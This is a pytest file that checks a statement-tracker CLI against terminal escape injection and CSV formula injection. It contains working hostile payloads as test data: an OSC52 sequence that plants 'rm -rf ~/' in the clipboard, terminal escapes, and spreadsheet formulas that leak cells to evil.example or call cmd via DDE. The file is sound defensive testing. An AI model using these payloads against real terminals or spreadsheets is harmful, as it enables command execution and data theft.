"""Issue 12, findings 1-2: terminal and spreadsheet injection through ids, ``recorded_by``, JSON and CSV output.

Every way in is the real CLI on real files; the hostile text arrives the way an
attacker would send it: an import file, the environment, a hand-edited or
merged store file.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import orjson
import pytest

from tests.helpers import snapshot, tracker
from tests.hostile import ESC, assert_clean
from tests.reliability.hardening import (
    ADD,
    added,
    load,
    one_error_line,
    save,
    statement_doc,
    with_statements,
)

# -- finding 1: ids and recorded_by ----------------------------------------------

OSC52 = f"{ESC}]52;c;cm0gLXJmIH4vCg=={ESC}\\"
"""Writes "rm -rf ~/" to the terminal's clipboard."""

BAD_IDS = {
    "osc52_clipboard": f"st_{OSC52}x",
    "osc0_title": f"st_{ESC}]0;pwned\x07x",
    "csi_clear": f"st_{ESC}[2Jx",
    "c1_csi": "st_\x9b2Jx",
    "bidi_override": "st_abc\u202edcba",
    "newline": "st_a\nb",
    "space": "st_a b",
    "too_long": "st_" + "a" * 65,
}
"""Ids outside the strict shape: ``st_`` then 1 to 64 of [0-9A-Za-z_-]."""

FORBIDDEN_IN_JSON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""C0 controls (but the newline), DEL, C1 controls, bidi embeddings/overrides/isolates: never in the bytes a
command prints as JSON (orjson writes a newline inside a string as backslash-n), nor in a string once decoded."""

DIRTY = f"a{ESC}]0;pwned\x07b{ESC}[31mc\x9b2Jd\x85e\x7ff\u202eg\u2066h"
"""Escapes, C1 controls, DEL and bidi characters in one string."""


def strings(value: object) -> list[str]:
    """Every string inside a JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (k, *strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def assert_clean_json(stdout: str) -> None:
    """No control or bidi character in the printed bytes, nor in any decoded string."""
    raw = FORBIDDEN_IN_JSON.findall(stdout)
    assert not raw, f"control/bidi characters printed raw: {sorted(set(map(repr, raw)))}"
    leaked = sorted({repr(c) for s in strings(orjson.loads(stdout)) for c in FORBIDDEN_IN_JSON.findall(s)})
    assert not leaked, f"control/bidi characters inside JSON strings (\\u escapes decode to them): {leaked}"


def import_file(folder: Path, name: str, payload: Any) -> Path:
    path = folder / name
    path.write_bytes(payload if isinstance(payload, bytes) else orjson.dumps(payload))
    return path


def import_is_refused(store_path: Path, file: Path) -> str:
    """``tracker import FILE`` exits 2 with one clean error line and leaves the folder as it was; the line."""
    before = snapshot(store_path.parent)
    done = tracker("import", str(file), db=store_path)
    assert done.returncode == 2, f"imported: {done.stdout!r}"
    line = one_error_line(done.stderr)
    assert_clean(done.stderr)
    assert snapshot(store_path.parent) == before
    return line


@pytest.mark.parametrize("bad_id", list(BAD_IDS.values()), ids=list(BAD_IDS))
def test_json_import_refuses_an_id_outside_the_strict_shape(store_path: Path, tmp_path: Path, bad_id: str) -> None:
    """Finding 1: an imported statement id holding an escape (or too long) is refused, store untouched."""
    file = import_file(
        tmp_path,
        "in.json",
        [{"id": bad_id, "party": "usa", "issue": "nato", "stance": "not-now", "stated_on": "2025-04-01"}],
    )
    assert "id" in import_is_refused(store_path, file)


def test_json_import_refuses_an_escape_in_the_id_of_a_revision_history(store_path: Path, tmp_path: Path) -> None:
    """Finding 1: the ``revisions`` form of an import carries the same id check."""
    bad = BAD_IDS["osc52_clipboard"]
    rev = statement_doc(bad)
    file = import_file(tmp_path, "in.json", [{**rev, "revisions": [rev]}])
    import_is_refused(store_path, file)


@pytest.mark.parametrize("name", ["osc52_clipboard", "osc0_title", "c1_csi", "bidi_override", "too_long"])
def test_csv_import_refuses_an_id_column_outside_the_strict_shape(store_path: Path, tmp_path: Path, name: str) -> None:
    """Finding 1: the CSV ``id`` column is checked like JSON's."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "party", "issue", "stance", "stated_on"])
    writer.writerow([BAD_IDS[name], "usa", "nato", "not-now", "2025-04-01"])
    file = tmp_path / "in.csv"
    file.write_text(out.getvalue())
    import_is_refused(store_path, file)


def test_an_id_of_the_strict_shape_is_still_imported(store_path: Path, tmp_path: Path) -> None:
    """Finding 1 (guard, holds today): 64 characters of [0-9A-Za-z_-] after ``st_`` is a good id."""
    good = "st_" + "Az09_-" * 10 + "abcd"
    assert len(good) == 3 + 64
    file = import_file(
        tmp_path,
        "in.json",
        [{"id": good, "party": "usa", "issue": "nato", "stance": "not-now", "stated_on": "2025-04-01"}],
    )
    done = tracker("import", str(file), db=store_path)
    assert done.returncode == 0, done.stderr
    assert good in {d["id"] for d in load(store_path)["statements"].values()}


def test_recorded_by_of_imported_revisions_is_sanitised(store_path: Path, tmp_path: Path) -> None:
    """Finding 1: ``revisions[].recorded_by`` is stored without escapes, controls or bidi characters."""
    rev = statement_doc("st_byimport", recorded_by=f"ev{ESC}]0;pwned\x07il\u202e{ESC}[2J", summary="fine")
    file = import_file(tmp_path, "in.json", [{**rev, "revisions": [rev]}])
    done = tracker("import", str(file), db=store_path)
    assert done.returncode == 0, done.stderr
    (stored,) = [d for d in load(store_path)["statements"].values() if d["id"] == "st_byimport"]
    assert_clean(stored["recorded_by"])
    assert stored["recorded_by"].startswith("ev")


def test_recorded_by_from_the_environment_is_sanitised(store_path: Path) -> None:
    """Finding 1: ``$TRACKER_USER`` is a way in too; what ``add`` stores and prints is clean."""
    done = tracker(*ADD, "--format", "json", db=store_path, TRACKER_USER=f"mallory{ESC}]0;pwned\x07\u202e")
    assert done.returncode == 0, done.stderr
    assert_clean_json(done.stdout)
    (stored,) = load(store_path)["statements"].values()
    assert_clean(stored["recorded_by"])


@pytest.fixture
def dirty_store(store_path: Path) -> Path:
    """A store hand-edited (or merged from another tool) with hostile text in every free-text place it has."""
    clean = added(store_path, "--summary", "clean one")  # a valid statement, for diff to have a before
    dirty = statement_doc(
        "st_dirty",
        stated_on="2025-04-20",
        stance="unrealistic",
        summary=DIRTY,
        quote=DIRTY,
        speaker=DIRTY,
        note=DIRTY,
        conditions=[DIRTY],
        tags=[DIRTY],
        source={"url": f"https://example.org/{DIRTY}", "title": DIRTY, "outlet": DIRTY, "published": ""},
        recorded_by=DIRTY,
        recorded_at="2025-04-20T10:00:00.000000Z",
    )
    with_statements(store_path, dirty)
    tables = load(store_path)
    for doc in tables["parties"].values():
        if doc["id"] == "usa":
            doc["name"], doc["aliases"] = DIRTY, [DIRTY]
    for doc in tables["issues"].values():
        if doc["id"] == "nato":
            doc["question"] = DIRTY
            for step in doc["scale"]:
                step["label"] = DIRTY
    tables["inbox"]["1"] = {
        "id": "cand_dirty",
        "status": "new",
        "party": "usa",
        "issue": "nato",
        "sentence": DIRTY,
        "speaker": DIRTY,
        "url": "https://example.org/a",
        "title": DIRTY,
        "outlet": DIRTY,
        "published": "2025-04-20",
        "fetched_at": "2025-04-20T10:00:00.000000Z",
        "statement_id": None,
    }
    tables["feeds"]["1"] = {
        "id": "fd_dirty",
        "url": "https://example.org/feed.xml",
        "name": DIRTY,
        "title": DIRTY,
        "etag": DIRTY,
        "last_modified": "",
        "last_pulled": "",
        "last_status": DIRTY,
        "added_at": "2025-04-20T10:00:00.000000Z",
        "seen": [],
    }
    save(store_path, tables)
    assert clean["id"] != "st_dirty"
    return store_path


JSON_COMMANDS = {
    "log": ("log", "--format", "json"),
    "log_revisions": ("log", "--revisions", "--format", "json"),
    "show": ("show", "st_dirty", "--format", "json"),
    "matrix": ("matrix", "--as-of", "2025-05-01", "--format", "json"),
    "diff": ("diff", "2025-04-10", "2025-05-01", "--format", "json"),
    "export": ("export",),
    "parties": ("parties", "--format", "json"),
    "issues": ("issues", "--format", "json"),
    "inbox": ("inbox", "--format", "json"),
    "feeds": ("feeds", "--format", "json"),
}


@pytest.mark.parametrize("args", list(JSON_COMMANDS.values()), ids=list(JSON_COMMANDS))
def test_json_output_never_carries_control_or_bidi_characters(dirty_store: Path, args: tuple[str, ...]) -> None:
    """Finding 1: ``--format json`` strips on the way out too, even text a hand edit put in the file."""
    done = tracker(*args, db=dirty_store)
    assert done.returncode == 0, done.stderr
    assert_clean_json(done.stdout)
    assert_clean(done.stderr)


@pytest.fixture
def bad_id_store(store_path: Path) -> Path:
    """A hand-edited store whose statement id holds a title-setting OSC and a clipboard write."""
    with_statements(store_path, statement_doc(f"st_evil{ESC}]0;pwned\x07{OSC52}"))
    return store_path


@pytest.mark.parametrize("args", [("log", "--format", "json"), ("export",), ("matrix", "--format", "json")])
def test_json_output_of_a_store_with_a_bad_id_carries_no_escape(bad_id_store: Path, args: tuple[str, ...]) -> None:
    """Finding 1: a hand-edited id never reaches the terminal raw (the command may print it cleaned, or refuse)."""
    done = tracker(*args, db=bad_id_store)
    assert done.returncode in (0, 2), done.stderr
    if done.returncode == 0:
        assert_clean_json(done.stdout)
    else:
        one_error_line(done.stderr)
    assert_clean(done.stdout + done.stderr)


def test_check_reports_an_id_holding_an_escape(bad_id_store: Path) -> None:
    """Finding 1: ``check`` exits 1 and names the statement whose id holds an escape (printed cleaned)."""
    done = tracker("check", db=bad_id_store, COLUMNS="1000")
    assert done.returncode == 1, done.stdout
    assert "st_evil" in done.stdout
    assert_clean(done.stdout + done.stderr)


def test_check_reports_recorded_by_holding_an_escape(store_path: Path) -> None:
    """Finding 1: ``check`` exits 1 and names the statement whose ``recorded_by`` holds an escape."""
    with_statements(store_path, statement_doc("st_dirtyby", recorded_by=f"ev{ESC}]0;pwned\x07il"))
    done = tracker("check", db=store_path, COLUMNS="1000")
    assert done.returncode == 1, done.stdout
    assert "st_dirtyby" in done.stdout
    assert_clean(done.stdout + done.stderr)


# -- finding 2: CSV formula injection ---------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""OWASP: a cell starting with one of these is a formula to a spreadsheet."""
NUMERIC = {"rev", "score", "before_score", "after_score", "shift", "version", "new_entries"}
"""Columns that hold numbers tracker computes, never text from outside."""

FORMULAS = {
    "quote": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "summary": "+cmd|' /C calc'!A0",
    "speaker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-5 degrees",
    "title": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "outlet": "'tis the season",
    "condition": "@condition",
    "tag": "-5 degrees",
}
"""What an analyst (or a feed) may legitimately type; ``'tis`` must survive as it is."""


def formula_statement(db: Path) -> str:
    done = tracker(
        "add", "--party", "usa", "--issue", "nato", "--stance", "not-now", "--date", "2025-04-20",
        *(arg for name, value in FORMULAS.items() for arg in (f"--{name}", value)),
        "--url", "https://example.org/a", db=db,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.fixture
def formula_store(store_path: Path) -> tuple[Path, str]:
    """Formula-looking text in statements, the codebook, the inbox and the feeds, put in the ways each gets in."""
    added(store_path, "--summary", "before")  # so that diff has a change with a before
    statement_id = formula_statement(store_path)
    for args in (
        ("parties", "add", "formulas", "--name", '=HYPERLINK("http://evil.example")', "--alias", "+alias"),
        ("issues", "add", "sheet", "--stance", "low:=1+1", "--stance", "high:@SUM(1)", "--question", "-q?"),
        (
            "add",
            "--party",
            "formulas",
            "--issue",
            "sheet",
            "--stance",
            "low",
            "--date",
            "2025-04-20",
            "--quote",
            "=2+2",
            "--grade",  # stated, so the matrix shows its (formula-looking) stance label as the position
            "B2",
        ),
    ):
        done = tracker(*args, db=store_path)
        assert done.returncode == 0, done.stderr
    tables = load(store_path)  # the ingest tables, as a pull or fetch fills them from a feed's text
    tables["inbox"]["1"] = {
        "id": "cand_formula",
        "status": "new",
        "party": "usa",
        "issue": "nato",
        "sentence": '=HYPERLINK("http://evil.example","read")',
        "speaker": "@speaker",
        "url": "https://example.org/a",
        "title": "+title",
        "outlet": "-outlet",
        "published": "2025-04-20",
        "fetched_at": "2025-04-20T10:00:00.000000Z",
        "statement_id": None,
    }
    tables["feeds"]["1"] = {
        "id": "fd_formula",
        "url": "https://example.org/feed.xml",
        "name": "=feed",
        "title": "@feed",
        "etag": "",
        "last_modified": "",
        "last_pulled": "",
        "last_status": "-failed",
        "added_at": "2025-04-20T10:00:00.000000Z",
        "seen": [],
    }
    save(store_path, tables)
    return store_path, statement_id


def csv_rows(text: str) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], rows[1:]


def assert_neutralised(text: str) -> None:
    """No text cell starts with a formula trigger, and the payloads are there, behind a single quote."""
    header, rows = csv_rows(text)
    assert rows, text
    armed = [
        (column, cell)
        for row in rows
        for column, cell in zip(header, row, strict=True)
        if column not in NUMERIC and cell.startswith(TRIGGERS)
    ]
    assert not armed, f"cells a spreadsheet runs as formulas: {armed[:6]}"
    quoted = [cell for row in rows for cell in row if cell[:1] == "'" and cell[1:2] in TRIGGERS]
    assert quoted, "the formula-looking text should be there, prefixed with a single quote"


CSV_COMMANDS = {
    "log": ("log", "--format", "csv"),
    "log_revisions": ("log", "--revisions", "--format", "csv"),
    "export": ("export", "--format", "csv"),
    "matrix": ("matrix", "--as-of", "2025-05-01", "--format", "csv"),
    "diff": ("diff", "2025-04-10", "2025-05-01", "--format", "csv"),
    "inbox": ("inbox", "--format", "csv"),
    "parties": ("parties", "--format", "csv"),
    "issues": ("issues", "--format", "csv"),
    "feeds": ("feeds", "--format", "csv"),
}


@pytest.mark.parametrize("args", list(CSV_COMMANDS.values()), ids=list(CSV_COMMANDS))
def test_every_csv_neutralises_formula_cells(formula_store: tuple[Path, str], args: tuple[str, ...]) -> None:
    """Finding 2: cells starting with = + - @ tab or CR get a leading single quote, in every CSV written."""
    db, _ = formula_store
    done = tracker(*args, db=db)
    assert done.returncode == 0, done.stderr
    assert_neutralised(done.stdout)


def test_show_csv_neutralises_formula_cells(formula_store: tuple[Path, str]) -> None:
    """Finding 2: ``show --format csv`` too."""
    db, statement_id = formula_store
    done = tracker("show", statement_id, "--format", "csv", db=db)
    assert done.returncode == 0, done.stderr
    assert_neutralised(done.stdout)


@pytest.mark.parametrize("source", [("export", "--format", "csv"), ("log", "--format", "csv")], ids=["export", "log"])
def test_neutralised_csv_imports_back_to_the_original_text(tmp_path: Path, source: tuple[str, ...]) -> None:
    """Finding 2: export → import restores the text exactly ("=HYPERLINK(...)", "-5 degrees", "'tis" unchanged)."""
    first = tmp_path / "first.json"
    assert tracker("init", db=first).returncode == 0
    statement_id = formula_statement(first)
    original = orjson.loads(tracker("show", statement_id, "--format", "json", db=first).stdout)

    exported = tracker(*source, db=first)
    assert exported.returncode == 0, exported.stderr
    assert_neutralised(exported.stdout)
    file = tmp_path / "sheet.csv"
    file.write_text(exported.stdout)

    second = tmp_path / "second.json"
    assert tracker("init", db=second).returncode == 0
    done = tracker("import", str(file), db=second)
    assert done.returncode == 0, done.stderr
    back = orjson.loads(tracker("show", statement_id, "--format", "json", db=second).stdout)
    for name in ("summary", "quote", "speaker", "note", "conditions", "tags", "source"):
        assert back[name] == original[name], name
    assert back["quote"] == FORMULAS["quote"] and back["tags"] == [FORMULAS["tag"]]
    assert back["source"]["outlet"] == "'tis the season"
